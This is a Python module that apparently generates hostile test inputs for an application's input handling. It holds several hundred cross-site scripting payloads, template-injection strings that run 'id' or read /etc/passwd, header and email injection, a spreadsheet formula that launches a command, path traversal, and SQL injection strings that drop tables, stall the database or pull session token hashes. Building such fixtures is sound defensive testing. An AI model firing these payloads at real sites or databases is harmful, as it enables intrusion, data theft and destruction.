"""Texts that try to be more than texts. Every script in them would call `xssfire`, every element is named for it."""

from itertools import product

CALL = "xssfire(1)"
TAGS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//xss.example></script>",
    "<svg><script>{}</script></svg>", "<xss onmouseover={}>x</xss>", "<xss/id=x tabindex=1 onfocus={} autofocus>",
    "<iframe srcdoc='<script>{}</script>'>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
    "<math><mi xlink:href=javascript:{}>x", "<base href=//xss.example>",
    "<meta http-equiv=refresh content=0;url=javascript:{}>", "<link rel=stylesheet href=//xss.example>",
    "<form action=javascript:{}><button>x", "<isindex action=javascript:{}>", "<marquee onstart={}>x</marquee>",
    "<details open ontoggle={}>x", "<template><xss></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<style>@import'//xss.example'</style>",
    "<!--><img src=x onerror={}>-->", "<![CDATA[<xss>]]>", "<?xml version='1.0'?><xss/>",
    "<a href=javascript:{}>x</a>", "<a href='data:text/html,<script>{}</script>'>x</a>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</script><script>{}</script>",
    "</style><script>{}</script>", "--><script>{}</script>",
)  # fmt: skip
ELEMENTS = ("img src=x", "svg", "body", "video src=x", "input autofocus", "audio src=x", "select autofocus", "xss")
HANDLERS = ("onerror", "onload", "onfocus", "onanimationstart", "onpointerenter", "onbeforeprint", "OnErRoR")
ENDINGS = ("<{} {}={}>", "<{}/{}={}//", "<{}\n{}\n=\n{}>")
BREAKS = ('"', "'", '">', "'>", "\">'>", "` ", '" x="', "' x='", '\\"', "\\'", "&quot;", "&#34;", "\u201d", "%22")
ATTRIBUTES = ("{}onmouseover={} ", "{}autofocus onfocus={} x=", "{} style=background:url(javascript:{})")
TEMPLATES = (
    "{{1337*7331}}", "{{ 1337*7331 }}", "{%print(1337*7331)%}", "${1337*7331}", "#{1337*7331}", "<%= 1337*7331 %>",
    "{{config}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.state.context.secret_key}}", "{#xss#}",
    "{% include '/etc/passwd' %}", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "%(xss)s", "%s%n%x",
    "{0}{xss}", "{xss.__class__}", "{{{{1337*7331}}}}", "[[1337*7331]]", "{{lipsum.__globals__}}", "{!1337*7331!}",
)  # fmt: skip
SCRIPTS = (
    "';{};//", '";{};//', "\\';{};//", "</script>{}", "`-{}-`", "${{{}}}", "');{};('", "\u2028{}\u2029",
    "\\u003cscript>{}", "\\x3cscript\\x3e{}", "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}",
    "\x01javascript:{}", "javascript&colon;{}", "data:text/html;base64,PHNjcmlwdD54c3NmaXJlKDEpPC9zY3JpcHQ+",
    "vbscript:{}", "feed:javascript:{}", "x:expression({})",
)  # fmt: skip
CHARSETS = (
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}", "&#x3c;script&#x3e;{}", "%3Cscript%3E{}",
    "+ADw-script+AD4-{}", "\u00bcscript\u00be{}", "＜script＞{}", "\uff1cimg onerror={}\uff1e", "<scr\u200bipt>{}",
    "<\u0131mg src=x onerror={}>", "\u202e>tpircs<{}", "\u2066<xss>\u2069", "\ufeff<xss>{}", "<xss\u00a0onload={}>",
    "<img\x0bsrc=x\x0bonerror={}>", "<img\x0csrc=x\x0conerror={}>", "a\r\nSet-Cookie: xss=1", "a\r\n\r\n<xss>",
    "a\nBcc: xss@example.org", "\u0000<xss>", "\ud800<xss>", "\x1b[31mxss", "Z\u0351\u0351\u0351algo<xss>", "😀<xss>",
    "\u05d0<xss>\u05d1", "<" * 60, ">" * 60, "&" * 60, "'" * 60, '"' * 60, "\\" * 60, "<xss " * 15, "<!--" * 15,
    "]]>" * 20, "BEGIN:VEVENT", "END:VEVENT\r\nBEGIN:VALARM", "ATTACH:javascript:{}", "=HYPERLINK(\"//xss.example\")",
    "=cmd|' /C calc'!A0", "@SUM(1)", "-1+1", "\tx", "../../etc/passwd",
)  # fmt: skip


def payloads() -> list[str]:
    """Some three hundred, each once, in a fixed order."""
    handlers = [
        ending.format(element, handler, CALL)
        for (element, handler), ending in zip(
            product(ELEMENTS, HANDLERS), ENDINGS * (len(ELEMENTS) * len(HANDLERS)), strict=False
        )
    ]
    breaks = [attribute.format(way, CALL) for way, attribute in product(BREAKS, ATTRIBUTES)]
    called = [text.replace("{}", CALL) for text in (*TAGS, *SCRIPTS, *CHARSETS)]
    return list(dict.fromkeys([*called, *handlers, *breaks, *TEMPLATES]))


def storable() -> list[str]:
    """Those that a database can keep."""
    return [each for each in payloads() if "\0" not in each and "\ud800" not in each]


SQL = (
    "'", "''", '"', "`", "\\", "\\'", "' or '1'='1", "' or 1=1--", '" or ""="', "') or ('1'='1", "' or 1=1#",
    "' or 1=1/*", "'; drop table person;--", "'; select pg_sleep(9);--", "' and (select pg_sleep(9)) is null--",
    "1; select pg_sleep(9)", "' union select null--", "' union select null,null,null--",
    "' union all select version()--", "' || (select 1) || '",
    "'||(select token_hash from sign_in_session limit 1)||'", "%", "%%", "_", "%' or '%'='", "[a-z]", "(a+)+$", ":x",
    "$1", "$$x$$", "%(x)s", "%s", "?", "null", "default", "current_user", "1e309", "0x27", "\u02bc or 1=1",
    "\uff07 or 1=1--", "%27 or 1=1--", "\\x27", "E'\\\\x27'", "U&'\\0027'", "'; set local app.actor = 'x';--",
    "'; reset role;--", "'; copy person to '/tmp/x';--", "') returning *;--", "'::uuid", "--", "/**/", "; ; ;",
)  # fmt: skip
